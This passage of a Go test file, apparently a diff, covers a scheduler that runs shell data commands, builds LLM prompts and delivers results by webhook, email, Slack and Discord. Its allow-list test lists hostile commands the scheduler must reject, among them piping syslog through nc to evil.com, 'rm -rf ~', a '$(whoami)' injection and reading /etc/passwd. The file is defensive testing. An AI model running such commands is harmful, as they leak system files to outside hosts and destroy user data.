+	close(client.gate)
+	<-done
+
+	runs, err := manager.Runs("streamed")
+	if err != nil || len(runs) != 1 {
+		t.Fatalf("Expected 1 run record, got %v, %v", runs, err)
+	}
+	if runs[0].Status != RunStatusSuccess || runs[0].Response != "partial answer" {
+		t.Errorf("Expected the full response in the final record, got %+v", runs[0])
+	}
+}
+
+func TestRunTaskWebhook(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	var calls, failures int32
+	payloads := make(chan WebhookPayload, 10)
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		atomic.AddInt32(&calls, 1)
+		if atomic.AddInt32(&failures, -1) >= 0 {
+			w.WriteHeader(http.StatusInternalServerError)
+			return
+		}
+		var p WebhookPayload
+		json.NewDecoder(r.Body).Decode(&p)
+		payloads <- p
+	}))
+	defer server.Close()
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+	manager.webhookRetryDelay = time.Millisecond
+
+	waitForRun := func(name string, done func(RunRecord) bool) RunRecord {
+		for i := 0; i < 200; i++ {
+			if runs, _ := manager.Runs(name); len(runs) == 1 && done(runs[0]) {
+				return runs[0]
+			}
+			time.Sleep(5 * time.Millisecond)
+		}
+		t.Fatalf("Timed out waiting for the run of %s", name)
+		return RunRecord{}
+	}
+
+	// Delivered on the retry after a first failure.
+	atomic.StoreInt32(&failures, 1)
+	task := &Task{Name: "hooked", DataCommand: "echo 'hello'", Prompt: "{{.Input}}", WebhookURL: server.URL}
+	manager.runTask(task, "run-1", nil)
+	select {
+	case p := <-payloads:
+		if p.Task != "hooked" || p.Status != RunStatusSuccess || p.Response != "mock response" || !strings.Contains(p.Text, "hooked success") {
+			t.Errorf("Unexpected webhook payload: %+v", p)
+		}
+	case <-time.After(2 * time.Second):
+		t.Fatal("Timed out waiting for the webhook")
+	}
+	if n := atomic.LoadInt32(&calls); n != 2 {
+		t.Errorf("Expected 2 webhook attempts, got %d", n)
+	}
+
+	// Not sent for a successful run when only failures are wanted.
+	atomic.StoreInt32(&calls, 0)
+	quiet := &Task{Name: "quiet", DataCommand: "echo 'hello'", Prompt: "{{.Input}}", WebhookURL: server.URL, NotifyOn: NotifyFailure}
+	manager.runTask(quiet, "run-2", nil)
+	time.Sleep(50 * time.Millisecond)
+	if n := atomic.LoadInt32(&calls); n != 0 {
+		t.Errorf("Expected no webhook for a successful run with notify_on=failure, got %d calls", n)
+	}
+
+	// Undeliverable after the retry: the failure lands in the run record.
+	atomic.StoreInt32(&failures, 2)
+	failing := &Task{Name: "failing", DataCommand: "exit 3", Prompt: "{{.Input}}", WebhookURL: server.URL, NotifyOn: NotifyFailure}
+	manager.runTask(failing, "run-3", nil)
+	run := waitForRun("failing", func(r RunRecord) bool { return r.WebhookError != "" })
+	if run.Status != RunStatusFailed || !strings.Contains(run.WebhookError, "status 500") {
+		t.Errorf("Expected a failed run recording the webhook error, got %+v", run)
+	}
+}
+
+// fakeSMTPServer accepts SMTP sessions on a local port and sends the message
+// data of each delivered mail to the returned channel.
+func fakeSMTPServer(t *testing.T) (string, int, <-chan string) {
+	t.Helper()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("Failed to listen: %v", err)
+	}
+	t.Cleanup(func() { ln.Close() })
+	messages := make(chan string, 10)
+	go func() {
+		for {
+			conn, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func(conn net.Conn) {
+				defer conn.Close()
+				r := bufio.NewReader(conn)
+				fmt.Fprint(conn, "220 localhost ESMTP\r\n")
+				for {
+					line, err := r.ReadString('\n')
+					if err != nil {
+						return
+					}
+					switch cmd := strings.ToUpper(strings.TrimSpace(line)); {
+					case strings.HasPrefix(cmd, "EHLO"), strings.HasPrefix(cmd, "HELO"):
+						fmt.Fprint(conn, "250-localhost\r\n250 8BITMIME\r\n")
+					case cmd == "DATA":
+						fmt.Fprint(conn, "354 go ahead\r\n")
+						var data strings.Builder
+						for {
+							l, err := r.ReadString('\n')
+							if err != nil {
+								return
+							}
+							if l == ".\r\n" {
+								break
+							}
+							data.WriteString(l)
+						}
+						messages <- data.String()
+						fmt.Fprint(conn, "250 queued\r\n")
+					case cmd == "QUIT":
+						fmt.Fprint(conn, "221 bye\r\n")
+						return
+					default:
+						fmt.Fprint(conn, "250 OK\r\n")
+					}
+				}
+			}(conn)
+		}
+	}()
+	addr := ln.Addr().(*net.TCPAddr)
+	return "127.0.0.1", addr.Port, messages
+}
+
+func TestRunTaskEmail(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	host, port, messages := fakeSMTPServer(t)
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New(), WithSMTP(SMTPConfig{Host: host, Port: port, From: "Gemini Srv <srv@example.com>"}))
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	receive := func() string {
+		select {
+		case msg := <-messages:
+			return msg
+		case <-time.After(2 * time.Second):
+			t.Fatal("Timed out waiting for the email")
+			return ""
+		}
+	}
+
+	task := &Task{Name: "mailed", DataCommand: "echo 'hello'", Prompt: "{{.Input}}", EmailTo: []string{"ops@example.com", "Boss <boss@example.com>"}}
+	manager.runTask(task, "run-1", nil)
+	msg := receive()
+	runs, _ := manager.Runs("mailed")
+	if len(runs) != 1 {
+		t.Fatalf("Expected 1 run, got %d", len(runs))
+	}
+	subject := "Subject: Task mailed success at " + runs[0].StartedAt.Format("2006-01-02 15:04:05 MST") + "\r\n"
+	for _, want := range []string{subject, "From: Gemini Srv <srv@example.com>\r\n", "To: ops@example.com, Boss <boss@example.com>\r\n", "Content-Type: text/plain", "\r\n\r\nmock response\r\n"} {
+		if !strings.Contains(msg, want) {
+			t.Errorf("Expected email to contain %q, got:\n%s", want, msg)
+		}
+	}
+
+	// Not sent for a successful run when only failures are wanted.
+	quiet := &Task{Name: "quiet", DataCommand: "echo 'hello'", Prompt: "{{.Input}}", EmailTo: []string{"ops@example.com"}, EmailOn: NotifyFailure}
+	manager.runTask(quiet, "run-2", nil)
+
+	// Failure details are sent instead of a response.
+	failing := &Task{Name: "failing", DataCommand: "echo 'broken' >&2; exit 3", Prompt: "{{.Input}}", EmailTo: []string{"ops@example.com"}, EmailOn: NotifyFailure}
+	manager.runTask(failing, "run-3", nil)
+	msg = receive()
+	for _, want := range []string{"Subject: Task failing failed at ", "Run run-3 failed: ", "Exit code: 3", "broken"} {
+		if !strings.Contains(msg, want) {
+			t.Errorf("Expected failure email to contain %q, got:\n%s", want, msg)
+		}
+	}
+	select {
+	case msg := <-messages:
+		t.Errorf("Unexpected extra email:\n%s", msg)
+	case <-time.After(50 * time.Millisecond):
+	}
+}
+
+func TestSplitText(t *testing.T) {
+	tests := []struct {
+		input string
+		max   int
+		want  []string
+	}{
+		{"", 10, nil},
+		{"short", 10, []string{"short"}},
+		{"line one\nline two\n", 12, []string{"line one\n", "line two\n"}},
+		{"abcdefghij", 4, []string{"abcd", "efgh", "ij"}},
+		{"ñññ", 3, []string{"ñ", "ñ", "ñ"}},
+	}
+	for _, test := range tests {
+		got := splitText(test.input, test.max)
+		if fmt.Sprint(got) != fmt.Sprint(test.want) {
+			t.Errorf("splitText(%q, %d) = %q, want %q", test.input, test.max, got, test.want)
+		}
+	}
+}
+
+func TestRunTaskChatWebhooks(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	var mu sync.Mutex
+	var slack []SlackMessage
+	var discord []DiscordMessage
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		switch r.URL.Path {
+		case "/slack":
+			var msg SlackMessage
+			json.NewDecoder(r.Body).Decode(&msg)
+			slack = append(slack, msg)
+		case "/discord":
+			var msg DiscordMessage
+			json.NewDecoder(r.Body).Decode(&msg)
+			discord = append(discord, msg)
+			w.WriteHeader(http.StatusNoContent)
+		default:
+			w.WriteHeader(http.StatusNotFound)
+		}
+	}))
+	defer server.Close()
+
+	long := strings.Repeat("line of text\n", 400)
+	client := &mockA2AClient{chunks: []string{"# Report\n**Done** see [the docs](https://example.com/a?b=1&c=2)\n", long}}
+	manager, err := NewManager(baseDir, client, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+	manager.webhookRetryDelay = time.Millisecond
+
+	task := &Task{Name: "chatty", DataCommand: "echo 'hello'", Prompt: "{{.Input}}", SlackWebhook: server.URL + "/slack", DiscordWebhook: server.URL + "/discord"}
+	manager.runTask(task, "run-1", nil)
+	var run RunRecord
+	for i := 0; i < 200; i++ {
+		if runs, _ := manager.Runs("chatty"); len(runs) == 1 && len(runs[0].Deliveries) == 2 {
+			run = runs[0]
+			break
+		}
+		time.Sleep(5 * time.Millisecond)
+	}
+	want := []Delivery{{Target: DeliverySlack, Messages: 1}, {Target: DeliveryDiscord, Messages: 3}}
+	if fmt.Sprint(run.Deliveries) != fmt.Sprint(want) {
+		t.Fatalf("Expected deliveries %+v, got %+v", want, run.Deliveries)
+	}
+
+	mu.Lock()
+	defer mu.Unlock()
+	if len(slack) != 1 || len(slack[0].Blocks) != 3 {
+		t.Fatalf("Expected one Slack message with 3 blocks, got %+v", slack)
+	}
+	if !strings.HasPrefix(slack[0].Text, "Task chatty success in ") {
+		t.Errorf("Unexpected Slack fallback text %q", slack[0].Text)
+	}
+	body := slack[0].Blocks[1].Text.Text
+	if !strings.HasPrefix(body, "*Report*\n*Done* see <https://example.com/a?b=1&amp;c=2|the docs>\n") {
+		t.Errorf("Expected the response converted to mrkdwn, got %q", body[:80])
+	}
+	var content strings.Builder
+	for _, msg := range discord {
+		if len(msg.Content) > maxDiscordContent {
+			t.Errorf("Discord message of %d characters exceeds the limit", len(msg.Content))
+		}
+		content.WriteString(msg.Content)
+	}
+	if !strings.HasPrefix(content.String(), "**Task chatty success") || !strings.HasSuffix(content.String(), long) {
+		t.Errorf("Expected the Discord messages to add up to the summary and response")
+	}
+}
+
+func TestDependsOn(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	writeTask := func(name, content string) {
+		if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", name+".toml"), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write task file: %v", err)
+		}
+	}
+	writeTask("fetch", `name = "fetch"
+schedule = "0 8 * * *"
+data_command = "echo 'raw data'"
+prompt = "Clean up: {{.Input}}"`)
+	writeTask("summarize", `name = "summarize"
+depends_on = "fetch"
+prompt = "Summarize: {{.Upstream}}"`)
+	// loop-a and loop-b depend on each other.
+	writeTask("loop-a", `name = "loop-a"
+depends_on = "loop-b"
+prompt = "{{.Upstream}}"`)
+	writeTask("loop-b", `name = "loop-b"
+depends_on = "loop-a"
+prompt = "{{.Upstream}}"`)
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	manager.mu.Lock()
+	_, hasA := manager.tasks["loop-a"]
+	_, hasB := manager.tasks["loop-b"]
+	_, hasSummarize := manager.tasks["summarize"]
+	manager.mu.Unlock()
+	if hasA == hasB {
+		t.Errorf("Expected exactly one task of the cycle to be scheduled, got loop-a %v, loop-b %v", hasA, hasB)
+	}
+	if !hasSummarize {
+		t.Fatal("Expected the dependent task to be registered without a schedule")
+	}
+
+	err = manager.ValidateDependencies(&Task{Name: "fetch", DependsOn: "summarize"})
+	var verr *ValidationError
+	if !errors.As(err, &verr) || verr.Errors[0].Field != "depends_on" || !strings.Contains(verr.Errors[0].Message, "fetch -> summarize -> fetch") {
+		t.Errorf("Expected a depends_on cycle error, got %v", err)
+	}
+	if err := ValidateTask(&Task{Name: "plain", Schedule: "0 8 * * *", DataCommand: "echo", Prompt: "{{.Upstream}}"}); err == nil {
+		t.Error("Expected {{.Upstream}} to be rejected for a task without depends_on")
+	}
+
+	fetchID, err := manager.RunNow("fetch")
+	if err != nil {
+		t.Fatalf("RunNow failed: %v", err)
+	}
+	var runs []RunRecord
+	for i := 0; i < 200; i++ {
+		if runs, _ = manager.Runs("summarize"); len(runs) == 1 && runs[0].Status != RunStatusRunning {
+			break
+		}
+		time.Sleep(5 * time.Millisecond)
+	}
+	if len(runs) != 1 {
+		t.Fatalf("Expected the dependent task to run once, got %d runs", len(runs))
+	}
+	if runs[0].Status != RunStatusSuccess || runs[0].Prompt != "Summarize: mock response" || runs[0].Upstream != "fetch/"+fetchID {
+		t.Errorf("Expected a run fed by the upstream response, got %+v", runs[0])
+	}
+}
+
+func TestPromptFuncs(t *testing.T) {
+	t.Setenv("PROMPT_ENV_PREFIX", "TASKVAR_")
+	t.Setenv("TASKVAR_REGION", "eu-west")
+	t.Setenv("SECRET_TOKEN", "hunter2")
+
+	task := &Task{
+		Name:     "funcs",
+		Timezone: "UTC",
+		Env:      map[string]string{"TEAM": "infra"},
+		Prompt:   `{{ now "2006" }} {{ env "TASKVAR_REGION" }} {{ env "TEAM" }} [{{ trim .Input }}] {{ truncate "héllo world" 5 }}`,
+	}
+	got, err := renderPrompt(task, "  data \n", nil, "")
+	if err != nil {
+		t.Fatalf("renderPrompt failed: %v", err)
+	}
+	want := time.Now().UTC().Format("2006") + " eu-west infra [data] héllo"
+	if got != want {
+		t.Errorf("Expected %q, got %q", want, got)
+	}
+
+	secret := &Task{Name: "secret", Schedule: "0 8 * * *", DataCommand: "echo", Prompt: `{{ env "SECRET_TOKEN" }}`}
+	if _, err := renderPrompt(secret, "data", nil, ""); err == nil || strings.Contains(err.Error(), "hunter2") {
+		t.Errorf("Expected reading SECRET_TOKEN to fail, got %v", err)
+	}
+	err = ValidateTask(secret)
+	var verr *ValidationError
+	if !errors.As(err, &verr) || verr.Errors[0].Field != "prompt" {
+		t.Errorf("Expected the disallowed env to be a prompt validation error, got %v", err)
+	}
+}
+
+func TestDataCommands(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	task := &Task{
+		Name:     "sources",
+		Schedule: "@daily",
+		DataCommands: map[string]DataSource{
+			"logs":    {Command: "echo 'disk full'"},
+			"metrics": {Command: "echo load=3; exit 2"},
+			"slow":    {Command: "sleep 5", Timeout: "100ms"},
+		},
+		Prompt: "Logs: {{.Data.logs}}\nMetrics: {{.Data.metrics}}\nSlow: {{.Data.slow}}",
+	}
+	if err := ValidateTask(task); err != nil {
+		t.Fatalf("Expected a valid task, got %v", err)
+	}
+
+	manager.runTask(task, "run-1", nil)
+	runs, err := manager.Runs("sources")
+	if err != nil || len(runs) != 1 {
+		t.Fatalf("Expected 1 run record, got %v, %v", runs, err)
+	}
+	if runs[0].Status != RunStatusFailed || !strings.Contains(runs[0].Error, "data_commands.metrics") {
+		t.Errorf("Expected the run to fail on the metrics source, got %+v", runs[0])
+	}
+
+	task.OnSourceError = SourceErrorPlaceholder
+	start := time.Now()
+	manager.runTask(task, "run-2", nil)
+	if elapsed := time.Since(start); elapsed > 3*time.Second {
+		t.Errorf("Expected the slow source to time out, the run took %v", elapsed)
+	}
+	run, err := manager.Run("sources", "run-2")
+	if err != nil {
+		t.Fatalf("Run failed: %v", err)
+	}
+	if run.Status != RunStatusSuccess {
+		t.Fatalf("Expected a successful run with placeholders, got %+v", run)
+	}
+	want := "Logs: disk full\nMetrics: [metrics unavailable: exit status 2]\nSlow: [slow unavailable: timed out after 100ms]"
+	if run.Prompt != want {
+		t.Errorf("Expected prompt %q, got %q", want, run.Prompt)
+	}
+	if len(run.Sources) != 3 || run.Sources[1].ExitCode != 2 || run.Sources[2].Error == "" {
+		t.Errorf("Expected the outcome of each source to be recorded, got %+v", run.Sources)
+	}
+
+	invalid := &Task{
+		Name:          "bad",
+		Schedule:      "@daily",
+		DataCommands:  map[string]DataSource{"my-logs": {Command: " ", Timeout: "soon"}},
+		OnSourceError: "ignore",
+		Prompt:        "{{.Data.other}}",
+	}
+	var verr *ValidationError
+	if !errors.As(ValidateTask(invalid), &verr) {
+		t.Fatal("Expected a *ValidationError")
+	}
+	wantFields := []string{"data_commands.my-logs", "data_commands.my-logs.command", "data_commands.my-logs.timeout", "on_source_error", "prompt"}
+	if len(verr.Errors) != len(wantFields) {
+		t.Fatalf("Expected %d field errors, got %+v", len(wantFields), verr.Errors)
+	}
+	for i, field := range wantFields {
+		if verr.Errors[i].Field != field {
+			t.Errorf("Expected error %d to be for %s, got %s", i, field, verr.Errors[i].Field)
+		}
+	}
+}
+
+func TestOutputCommand(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	task := &Task{
+		Name:          "ticket",
+		Schedule:      "@daily",
+		DataCommand:   "echo hello",
+		Prompt:        "{{.Input}}",
+		OutputCommand: `read -r summary; echo "filed: $summary"; echo note >&2`,
+	}
+	if err := ValidateTask(task); err != nil {
+		t.Fatalf("Expected a valid task, got %v", err)
+	}
+	manager.runTask(task, "run-1", nil)
+	run, err := manager.Run("ticket", "run-1")
+	if err != nil {
+		t.Fatalf("Run failed: %v", err)
+	}
+	if run.Status != RunStatusSuccess || run.Output == nil {
+		t.Fatalf("Expected a successful run with an output record, got %+v", run)
+	}
+	if run.Output.Stdout != "filed: mock response\n" || run.Output.Stderr != "note\n" || run.Output.ExitCode != 0 {
+		t.Errorf("Unexpected output record %+v", run.Output)
+	}
+
+	task.OutputCommand = "cat >/dev/null; exit 3"
+	manager.runTask(task, "run-2", nil)
+	run, err = manager.Run("ticket", "run-2")
+	if err != nil {
+		t.Fatalf("Run failed: %v", err)
+	}
+	if run.Status != RunStatusOutputFailed || run.Response != "mock response" || run.Output.ExitCode != 3 {
+		t.Errorf("Expected an output failure keeping the response, got %+v", run)
+	}
+
+	task.OutputCommand = "sleep 5"
+	task.OutputTimeout = "100ms"
+	manager.runTask(task, "run-3", nil)
+	run, err = manager.Run("ticket", "run-3")
+	if err != nil {
+		t.Fatalf("Run failed: %v", err)
+	}
+	if run.Status != RunStatusOutputFailed || !strings.Contains(run.Output.Error, "timed out") {
+		t.Errorf("Expected the output_command to time out, got %+v", run.Output)
+	}
+
+	if err := ValidateTask(&Task{Name: "x", Schedule: "@daily", DataCommand: "true", OutputTimeout: "later"}); err == nil {
+		t.Error("Expected an invalid output_timeout to be rejected")
+	}
+}
+
+func TestMaxInputBytes(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	os.Setenv("TASK_MAX_INPUT_BYTES", "10")
+	defer os.Unsetenv("TASK_MAX_INPUT_BYTES")
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	tests := []struct {
+		overflow string
+		max      int
+		status   string
+		prompt   string
+	}{
+		{"", 0, RunStatusSuccess, "0123456789\n[11 bytes truncated]"},
+		{InputKeepTail, 0, RunStatusSuccess, "[11 bytes truncated]\nbcdéfghij"},
+		{InputKeepHead, 15, RunStatusSuccess, "0123456789abcd\n[7 bytes truncated]"},
+		{InputKeepHead, -1, RunStatusSuccess, "0123456789abcdéfghij"},
+		{InputFail, 0, RunStatusFailed, ""},
+	}
+	for i, tt := range tests {
+		task := &Task{
+			Name:          fmt.Sprintf("big-%d", i),
+			DataCommand:   "printf '0123456789abcdéfghij'",
+			Prompt:        "{{.Input}}",
+			MaxInputBytes: tt.max,
+			InputOverflow: tt.overflow,
+		}
+		manager.runTask(task, "run-1", nil)
+		run, err := manager.Run(task.Name, "run-1")
+		if err != nil {
+			t.Fatalf("Run failed: %v", err)
+		}
+		if run.Status != tt.status || run.Prompt != tt.prompt {
+			t.Errorf("%q/%d: expected %s with prompt %q, got %s with %q (%s)", tt.overflow, tt.max, tt.status, tt.prompt, run.Status, run.Prompt, run.Error)
+		}
+		if run.StdoutSize != 21 || run.InputTruncated != (tt.status == RunStatusSuccess && tt.max != -1) {
+			t.Errorf("%q/%d: expected the original size and truncation to be recorded, got %d and %v", tt.overflow, tt.max, run.StdoutSize, run.InputTruncated)
+		}
+	}
+
+	task := &Task{
+		Name:         "big-source",
+		DataCommands: map[string]DataSource{"logs": {Command: "printf 'abcdefghijklmnop'"}},
+		Prompt:       "{{.Data.logs}}",
+	}
+	manager.runTask(task, "run-1", nil)
+	run, err := manager.Run(task.Name, "run-1")
+	if err != nil {
+		t.Fatalf("Run failed: %v", err)
+	}
+	if run.Prompt != "abcdefghij\n[6 bytes truncated]" || len(run.Sources) != 1 || !run.Sources[0].Truncated {
+		t.Errorf("Expected the data source output to be truncated, got %q and %+v", run.Prompt, run.Sources)
+	}
+}
+
+func TestCommandAllowList(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	allowList := "# Approved commands\ncat /var/log/\n\njournalctl -n 200 | grep error\necho\n/opt/scripts/report\n"
+	if err := os.WriteFile(filepath.Join(baseDir, "allowed.txt"), []byte(allowList), 0644); err != nil {
+		t.Fatalf("Failed to write allow-list: %v", err)
+	}
+	blocked := `
+name = "blocked"
+schedule = "0 0 1 1 *"
+data_command = "curl http://example.com"
+prompt = "The data is: {{.Input}}"
+`
+	if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", "blocked.toml"), []byte(blocked), 0644); err != nil {
+		t.Fatalf("Failed to write test task file: %v", err)
+	}
+	t.Setenv("TASK_COMMAND_ALLOWLIST", "allowed.txt")
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+
+	for command, want := range map[string]bool{
+		"cat /var/log/syslog":                     true,
+		"journalctl -n 200 | grep error":          true,
+		"echo 'hello'":                            true,
+		"cat /var/log/syslog; rm -rf ~":           false,
+		"cat /var/log/syslog | nc evil.com 80":    false,
+		"cat /var/log/$(whoami)":                  false,
+		"journalctl -n 200 | grep error > /tmp/x": false,
+		"curl http://example.com":                 false,
+		"cat /etc/passwd":                         false,
+		"/opt/scripts/report --daily":             true,
+		"/opt/scripts/report-evil.sh":             false,
+		"echoevil":                                false,
+	} {
+		if got := manager.commandAllowed(command); got != want {
+			t.Errorf("commandAllowed(%q) = %v, want %v", command, got, want)
+		}
+	}
+
+	task := &Task{
+		Name:          "mixed",
+		DataCommand:   "echo 'hi'",
+		DataCommands:  map[string]DataSource{"logs": {Command: "cat /var/log/syslog"}, "web": {Command: "curl http://example.com"}},
+		OutputCommand: "mail -s report me@example.com",
+	}
+	err = manager.CheckCommands(task)
+	var verr *ValidationError
+	if !errors.As(err, &verr) || len(verr.Errors) != 2 || verr.Errors[0].Field != "data_commands.web.command" || verr.Errors[1].Field != "output_command" {
+		t.Errorf("Expected the blocked commands to be reported, got %v", err)
+	}
+
+	// A task stored with a blocked command is refused at run time.
+	runID, err := manager.RunNow("blocked")
+	if err != nil {
+		t.Fatalf("RunNow failed: %v", err)
+	}
+	var rec *RunRecord
+	for i := 0; i < 200; i++ {
+		if rec, _ = manager.Run("blocked", runID); rec != nil && rec.Status != RunStatusRunning {
+			break
+		}
+		time.Sleep(5 * time.Millisecond)
+	}
+	if rec == nil || rec.Status != RunStatusFailed || !strings.Contains(rec.Error, "not in the allow-list") {
+		t.Errorf("Expected the run to be refused, got %+v", rec)
+	}
+
+	// Without an allow-list anything goes.
+	if err := (&Manager{}).CheckCommands(task); err != nil {
+		t.Errorf("Expected every command to be allowed by default, got %v", err)
+	}
+}
+
+func TestExportImportTasks(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+	targetDir := baseDir + "_target"
+	if err := os.MkdirAll(filepath.Join(targetDir, "data/tasks"), 0755); err != nil {
+		t.Fatalf("Failed to create target directory: %v", err)
+	}
+	defer os.RemoveAll(targetDir)
+
+	files := map[string]string{
+		"collect": `# Collects the logs.
+name = "collect"
+schedule = "0 6 * * *"
+data_command = "echo 'logs'"
+prompt = "Summarize: {{.Input}}"
+`,
+		"report": `name = "report"
+depends_on = "collect"
+prompt = "Report on: {{.Upstream}}"
+`,
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", name+".toml"), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write test task file: %v", err)
+		}
+	}
+	source, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	source.cron.Stop()
+	bundle, err := source.ExportTasks()
+	if err != nil {
+		t.Fatalf("ExportTasks failed: %v", err)
+	}
+	if len(bundle.Tasks) != 2 || bundle.Tasks[0].Name != "collect" || bundle.Tasks[0].TOML != files["collect"] {
+		t.Fatalf("Unexpected bundle %+v", bundle)
+	}
+
+	// Round-trip through JSON, as the API does.
+	data, err := json.Marshal(bundle)
+	if err != nil {
+		t.Fatalf("Failed to encode bundle: %v", err)
+	}
+	var imported Bundle
+	if err := json.Unmarshal(data, &imported); err != nil {
+		t.Fatalf("Failed to decode bundle: %v", err)
+	}
+	target, err := NewManager(targetDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer target.cron.Stop()
+	result, err := target.ImportTasks(&imported, "")
+	if err != nil {
+		t.Fatalf("ImportTasks failed: %v", err)
+	}
+	if !reflect.DeepEqual(result.Imported, []string{"collect", "report"}) || len(result.Reload.Added) != 2 || len(result.Reload.Errors) != 0 {
+		t.Errorf("Unexpected import result %+v, reload %+v", result, result.Reload)
+	}
+	for name, content := range files {
+		got, err := os.ReadFile(filepath.Join(targetDir, "data/tasks", name+".toml"))
+		if err != nil || string(got) != content {
+			t.Errorf("Expected %s.toml to be copied verbatim, got %q, %v", name, got, err)
+		}
+	}
+	if _, err := target.Status("collect"); err != nil {
+		t.Errorf("Expected the imported task to be scheduled, got %v", err)
+	}
+
+	// Existing tasks fail the import unless told otherwise.
+	if _, err := target.ImportTasks(&imported, ""); !errors.Is(err, ErrImportConflict) {
+		t.Errorf("Expected ErrImportConflict, got %v", err)
+	}
+	if result, err := target.ImportTasks(&imported, ImportSkip); err != nil || len(result.Skipped) != 2 || len(result.Imported) != 0 {
+		t.Errorf("Expected both tasks to be skipped, got %+v, %v", result, err)
+	}
+	imported.Tasks[0].TOML = strings.Replace(files["collect"], "0 6 * * *", "0 7 * * *", 1)
+	if result, err := target.ImportTasks(&imported, ImportOverwrite); err != nil || len(result.Imported) != 2 || len(result.Reload.Updated) != 1 {
+		t.Errorf("Expected both tasks to be overwritten, got %+v, %v", result, err)
+	}
+	if _, err := target.ImportTasks(&imported, "merge"); !errors.Is(err, ErrInvalidConflictPolicy) {
+		t.Errorf("Expected ErrInvalidConflictPolicy, got %v", err)
+	}
+
+	// Nothing is written if any task is invalid.
+	invalid := &Bundle{Tasks: []BundledTask{
+		{Name: "fresh", TOML: "name = \"fresh\"\nschedule = \"@daily\"\ndata_command = \"true\"\nprompt = \"hi\"\n"},
+		{Name: "renamed", TOML: "name = \"other\"\nschedule = \"@daily\"\ndata_command = \"true\"\nprompt = \"hi\"\n"},
+		{Name: "broken", TOML: "name = "},
+		{Name: "../escape", TOML: ""},
+	}}
+	_, err = target.ImportTasks(invalid, ImportOverwrite)
+	var verr *ValidationError
+	if !errors.As(err, &verr) || len(verr.Errors) != 3 {
+		t.Errorf("Expected a validation error for three tasks, got %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(targetDir, "data/tasks", "fresh.toml")); !os.IsNotExist(err) {
+		t.Errorf("Expected nothing to be written for an invalid bundle, got %v", err)
+	}
+}
+
+func TestUpcoming(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	runAt := time.Now().Add(2 * time.Hour).UTC().Format(time.RFC3339)
+	files := map[string]string{
+		"morning":   "name = \"morning\"\nschedule = \"0 6 * * *\"\ndata_command = \"true\"\nprompt = \"hi\"\n",
+		"staggered": "name = \"staggered\"\nschedule = \"5 6 * * *\"\ndata_command = \"true\"\nprompt = \"hi\"\n",
+		"follow-up": "name = \"follow-up\"\ndepends_on = \"morning\"\nprompt = \"hi\"\n",
+		"once":      "name = \"once\"\nrun_at = \"" + runAt + "\"\ndata_command = \"true\"\nprompt = \"hi\"\n",
+		"done":      "name = \"done\"\nrun_at = \"2020-01-01T00:00:00Z\"\ncompleted_at = \"2020-01-01T00:00:01Z\"\ndata_command = \"true\"\nprompt = \"hi\"\n",
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", name+".toml"), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write test task file: %v", err)
+		}
+	}
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+
+	runs := manager.Upcoming(48 * time.Hour)
+	counts := make(map[string]int)
+	for i, run := range runs {
+		counts[run.Task]++
+		if i > 0 && run.FireTime.Before(runs[i-1].FireTime) {
+			t.Errorf("Expected runs ordered by time, got %v before %v", runs[i-1], run)
+		}
+		if run.Task == "staggered" && run.FireTime.Minute() != 5 {
+			t.Errorf("Expected staggered to fire at minute 5, got %v", run.FireTime)
+		}
+	}
